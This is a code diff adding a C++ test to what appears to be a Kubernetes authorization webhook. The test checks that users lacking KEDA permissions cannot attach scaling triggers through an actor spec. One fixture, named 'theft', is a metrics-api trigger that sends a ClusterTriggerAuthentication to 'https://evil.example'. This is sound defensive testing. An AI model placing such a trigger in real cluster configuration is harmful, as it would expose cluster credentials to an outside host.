@@ -119,6 +119,42 @@ TEST_F(RightsToPods, CoverAccountsOfFlavors) {
   EXPECT_EQ(Merge(Path("one"), R"({"spec":{"serviceAccountName":null}})").status, 403);
 }
 
+// Else a ClusterTriggerAuthentication would be had by an actor, and shown to whatever address its trigger names.
+TEST_F(RightsToPods, CoverTriggersOfKeda) {
+  const std::string cron = R"({"type":"cron","metadata":{"start":"0 8 * * *"}})";
+  const std::string theft = R"({"type":"metrics-api","metadata":{"url":"https://evil.example"},)"
+                            R"("authenticationRef":{"name":"all","kind":"ClusterTriggerAuthentication"}})";
+  const auto spec = [](const std::string& triggers, const std::string& more = "") {
+    return R"({"scaling":{"additionalTriggers":[)" + triggers + "]" + more + "}}";
+  };
+  const auto of = [&](const std::string& triggers) {
+    return R"({"image":"i:1","handler":"m.f",)" + spec(triggers).substr(1);
+  };
+  Now(true, "create scaledobjects ");
+  const Answer refused = Create(Actor("one", of(theft)));
+  EXPECT_EQ(refused.status, 403);
+  EXPECT_EQ(refused.At("/message"),
+            "asyncactors.asya.sh \"one\" is forbidden: its additionalTriggers would do it for user \"ada\", who cannot "
+            "create resource \"scaledobjects\" in API group \"keda.sh\" in the namespace \"default\"");
+  EXPECT_EQ(Create(Actor("one")).status, 201);
+  const auto merge = [this](const std::string& change) {
+    return Merge(Path("one"), R"({"spec":)" + change + "}").status;
+  };
+  EXPECT_EQ(merge(spec(theft)), 403);
+  Now(true);
+  EXPECT_EQ(merge(spec(cron + "," + theft)), 200);
+  EXPECT_EQ(cluster_.last.group + " " + cluster_.last.version + " " + cluster_.last.namespace_,
+            "keda.sh v1alpha1 default");
+  Now(true, "create scaledobjects ");
+  EXPECT_EQ(merge(spec(cron + "," + theft, R"(,"maxReplicaCount":2)")), 200) << "they are as they were";
+  EXPECT_EQ(merge(spec(cron)), 200) << "fewer of them";
+  EXPECT_EQ(merge(spec(theft)), 403) << "what was taken away does not come back";
+  EXPECT_EQ(MakeFlavor("timed", spec(cron)), 403);
+  EXPECT_EQ(cluster_.last.resource + " " + cluster_.last.namespace_, "scaledobjects ");
+  Now(true);
+  EXPECT_EQ(MakeFlavor("timed", spec(cron)), 201);
+}
+
 TEST_F(RightsToPods, AreAskedInAllNamespacesOfWhoWritesAFlavor) {
   Now(false);
   EXPECT_EQ(MakeFlavor("plain", R"({"concurrency":1})"), 403);
